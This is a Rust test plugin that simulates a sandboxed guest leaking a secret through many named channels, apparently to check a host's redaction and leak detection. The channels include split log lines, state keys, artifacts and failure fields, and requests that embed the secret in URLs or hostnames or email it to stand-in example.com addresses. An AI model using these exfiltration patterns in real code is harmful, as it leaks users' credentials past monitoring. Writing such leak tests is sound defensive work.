//! What a guest would do with a secret that it learned: each channel that leaves the sandbox, by name. `known` stands in for
//! how it learned it.

use serde_json::{Value, json};

use crate::{
    done, failure,
    habits::{refused, request},
    outcome,
    wit::wardroom::plugin::{
        http, incident, log, mail, state,
        types::{Artifact, Content, Effect, Failure, Later, Outcome, Reply},
    },
};

/// Sends `known` through `channel`.
pub(crate) fn run(input: &Value) -> Result<Reply, Failure> {
    let known = input["known"].as_str().unwrap_or_default();
    // As long as what comes before it is asked to be: a text that is cut may cut the secret.
    let before = input["before"].as_u64().and_then(|length| usize::try_from(length).ok()).unwrap_or_default();
    let padded = format!("{}{known}", "x".repeat(before));
    let channel = input["channel"].as_str().unwrap_or_default();
    if let Some(field) = channel.strip_prefix("failure-") {
        return Err(failed(field, &padded));
    }
    if let Some(field) = channel.strip_prefix("artifact-") {
        return Ok(Reply::Done(Outcome { artifacts: vec![artifact(field, &padded)], ..outcome(&json!({})) }));
    }
    if let Some(field) = channel.strip_prefix("pending-") {
        return Ok(Reply::Pending(later(field, &padded)));
    }
    match channel {
        "output" => return Ok(done(&json!({ "text": padded }))),
        "output-key" => return Ok(done(&json!({ padded: 1 }))),
        // Its schema wants a number there, so that the host says what it found.
        "output-fault" => return Ok(done(&json!({ "status": padded }))),
        "summary" => return Ok(Reply::Done(Outcome { summary: padded, ..outcome(&json!({})) })),
        "undo" => return Ok(Reply::Done(Outcome { undo: Some(json!([padded]).to_string()), ..outcome(&json!({})) })),
        other => tell(other, known, &padded)?,
    }
    Ok(done(&json!({})))
}

fn tell(channel: &str, known: &str, padded: &str) -> Result<(), Failure> {
    let (head, tail) = known.split_at(known.len() / 2);
    match channel {
        "log" => log::emit(log::Level::Warn, padded, &[]),
        "log-split" => {
            log::emit(log::Level::Warn, head, &[]);
            log::emit(log::Level::Warn, tail, &[]);
        }
        "log-field" => log::emit(log::Level::Warn, "", &[(known.to_owned(), known.to_owned())]),
        "log-field-split" => {
            log::emit(log::Level::Warn, "one", &[("name".to_owned(), head.to_owned())]);
            log::emit(log::Level::Warn, "two", &[("name".to_owned(), tail.to_owned())]);
        }
        "progress" => log::progress(50, padded),
        "timeline" => {
            let data = json!({ known: known }).to_string();
            let _ = incident::add_timeline(known, Some(&data));
        }
        "state" => {
            let _ = state::put(known, known.as_bytes(), state::Expect::Any);
        }
        "method" => return send(&json!({ "method": known, "url": "/" })),
        "path" => return send(&json!({ "url": format!("/{known}") })),
        "query" => return send(&json!({ "url": format!("/?q={known}") })),
        "host" => return send(&json!({ "url": format!("https://{known}.example/") })),
        "elsewhere" => return send(&json!({ "url": "https://elsewhere.example/", "secret_header": true })),
        "mail" => return post(known),
        _ => return Err(failure("no_channel", channel.to_owned(), Effect::None)),
    }
    Ok(())
}

fn send(sent: &Value) -> Result<(), Failure> {
    http::send(&request(sent)).map(drop).map_err(|error| refused(&error))
}

fn post(known: &str) -> Result<(), Failure> {
    let attachment = mail::Attachment {
        name: known.to_owned(),
        media_type: "text/plain".to_owned(),
        data: known.as_bytes().to_vec(),
    };
    mail::send(&mail::Message {
        sender: "a@example.com".to_owned(),
        to: vec![format!("{known}@example.com")],
        cc: vec![format!("{known}@example.com")],
        reply_to: None,
        subject: known.to_owned(),
        text: known.to_owned(),
        html: Some(known.to_owned()),
        headers: Vec::new(),
        message_id: format!("{known}@example.com"),
        attachments: vec![attachment],
    })
}

fn later(field: &str, text: &str) -> Later {
    let mut later = Later { after_ms: 250, resume: Vec::new(), note: String::new(), undo: None };
    match field {
        "note" => text.clone_into(&mut later.note),
        "undo" => later.undo = Some(json!({ "text": text }).to_string()),
        _ => later.resume = text.as_bytes().to_vec(),
    }
    later
}

fn artifact(field: &str, text: &str) -> Artifact {
    let mut artifact = Artifact { kind: "text".to_owned(), label: String::new(), url: None, content: None };
    match field {
        "kind" => text.clone_into(&mut artifact.kind),
        "label" => text.clone_into(&mut artifact.label),
        "url" => artifact.url = Some(format!("https://example.com/{text}")),
        "json" => artifact.content = Some(Content::Json(json!({ text: [text] }).to_string())),
        "media-type" => artifact.content = Some(Content::Bytes((text.to_owned(), Vec::new()))),
        _ => artifact.content = Some(Content::Bytes(("text/plain".to_owned(), text.as_bytes().to_vec()))),
    }
    artifact
}

fn failed(field: &str, text: &str) -> Failure {
    let mut failed = failure("leaked", String::new(), Effect::None);
    match field {
        "code" => text.clone_into(&mut failed.code),
        "message" => text.clone_into(&mut failed.message),
        "details" => failed.details = Some(json!({ text: text }).to_string()),
        "undo" => failed.undo = Some(json!([text]).to_string()),
        _ => failed.artifacts = vec![artifact("json", text)],
    }
    failed
}
